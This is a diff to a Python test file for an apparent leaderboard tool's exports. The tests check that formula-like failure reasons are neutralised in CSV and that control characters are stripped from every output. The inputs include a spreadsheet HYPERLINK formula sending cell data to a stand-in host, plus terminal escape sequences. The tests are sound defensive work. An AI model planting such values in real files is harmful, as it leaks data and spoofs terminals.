@@ -183,16 +183,56 @@ def test_load_results_reads_the_default_suite_unless_told(tmp_path):
 
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text(tmp_path):
     """A review (2026-12-05): a policy wrote its own failure reason, ``=HYPERLINK(...)``, which
-    reached entries.csv as a formula. Text cells starting like a formula get a ``'``."""
+    reached entries.csv as a formula. Text cells starting like a formula get a ``'`` (a tab or a
+    carriage return no longer starts a reason: test_failure_reasons_are_exported_as_every_output_shows_them)."""
     path = tmp_path / "r.sqlite"
-    reasons = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-cmd", "@SUM(A1)", "\tx", "plain: = is fine"]
+    reasons = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-cmd", "@SUM(A1)", "plain: = is fine"]
     with ResultStore(path) as store:
         for k, reason in enumerate(reasons):
             store.record_failure(f"f{k}", "submission", reason, suite_version=SUITE.version)
     invoke("--format", "csv", "--out", str(tmp_path / "out"), "--all", "--db", str(path))
     with open(tmp_path / "out" / "entries.csv", newline="", encoding="utf-8") as f:
         got = [row["failure_reason"] for row in csv.DictReader(f)]
-    assert got == ["'" + r for r in reasons[:5]] + [reasons[5]]
+    assert got == ["'" + r for r in reasons[:4]] + [reasons[4]]
+
+
+#: stored failure reasons (through the store's API, or an older lrgym's: the grader stores them
+#: cleaned) and what every published output gives of them
+RAW_REASONS = {
+    "\x1b[2J\x1b]0;owned\x07boom": "[2J]0;ownedboom",  # clear the screen, set the title
+    "nul\x00byte": "nulbyte",
+    "over\rwritten": "overwritten",  # a lone CR: the line rewritten in a terminal
+    "two\r\nlines\n": "two\nlines\n",  # (newlines are kept, as the HTML page keeps them)
+    "\ttabbed": " tabbed",  # (a tab started a formula in a spreadsheet)
+    "right\u202eto left\u200b": "rightto left",  # a bidirectional override, a zero-width space
+    "C1\x9bcontrol": "C1control",
+}
+
+
+def test_failure_reasons_are_exported_as_every_output_shows_them(tmp_path):
+    """An audit (2026-12-06): export wrote a failure reason's control characters (escape sequences,
+    NUL, a lone CR) as stored, which the terminal table, LEADERBOARD.md and the HTML page strip. One
+    rule for every published output (public_source.public_reason), JSON and CSV alike; the HTML
+    page gives the same text."""
+    import html
+
+    from lrgym.leaderboard.ranking import build_leaderboard
+    from lrgym.leaderboard.report import html_page
+
+    path = tmp_path / "r.sqlite"
+    with ResultStore(path) as store:
+        for k, reason in enumerate(RAW_REASONS):
+            store.record_failure(f"f{k}", "submission", reason, suite_version=SUITE.version)
+        lb = build_leaderboard(store, SUITE, curves=False)
+    invoke("--format", "json", "--out", str(tmp_path / "e.json"), "--all", "--db", str(path))
+    invoke("--format", "csv", "--out", str(tmp_path / "out"), "--all", "--db", str(path))
+    with open(tmp_path / "out" / "entries.csv", newline="", encoding="utf-8") as f:
+        in_csv = [row["failure_reason"] for row in csv.DictReader(f)]
+    in_json = [e["failure_reason"] for e in json.loads((tmp_path / "e.json").read_text())["entries"]]
+    expected = list(RAW_REASONS.values())
+    assert in_json == expected and in_csv == expected
+    page = html_page(lb)
+    assert all(html.escape(reason) in page for reason in expected)
 
 
 def test_an_empty_export_has_the_columns_of_a_full_one(store_path, tmp_path):
